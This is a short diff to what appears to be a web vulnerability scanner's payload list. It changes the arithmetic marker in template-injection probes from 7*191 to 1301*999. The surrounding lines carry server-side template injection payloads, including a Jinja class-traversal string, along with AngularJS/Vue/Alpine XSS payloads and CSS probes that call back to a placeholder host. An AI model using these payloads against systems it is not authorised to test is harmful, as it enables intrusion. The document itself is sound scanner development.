@@ -201,18 +201,18 @@ _OTHERS = r"""
 <div style="text-align: center" onmouseover="{x}">x</div>
 <style>@font-face{font-family:x;src:url({u}/12.woff)}*{font-family:x}</style>
 <link rel=stylesheet href="data:text/css,*{background:url({u}/13.png)}">
-{{7*191}}
-${7*191}
-#{7*191}
-<%= 7*191 %>
-{%% for x in [1] %%}{{7*191}}{%% endfor %%}
-{{ ''.__class__.__mro__[1].__subclasses__() }}{{7*191}}
-{{ config.__class__ }}{{7*191}}
-{% raw %}{{7*191}}{% endraw %}
+{{1301*999}}
+${1301*999}
+#{1301*999}
+<%= 1301*999 %>
+{%% for x in [1] %%}{{1301*999}}{%% endfor %%}
+{{ ''.__class__.__mro__[1].__subclasses__() }}{{1301*999}}
+{{ config.__class__ }}{{1301*999}}
+{% raw %}{{1301*999}}{% endraw %}
 {{constructor.constructor('{x}')()}}
 {{$on.constructor('{x}')()}}
-[[7*191]] {7*191}
-<div ng-app>{{7*191}}</div>
+[[1301*999]] {1301*999}
+<div ng-app>{{1301*999}}</div>
 <div v-html="'<img src=x onerror={x}>'"></div>
 <div x-data x-init="{x}"></div>
 <div data-bind="html: '<img src=x onerror={x}>'"></div>
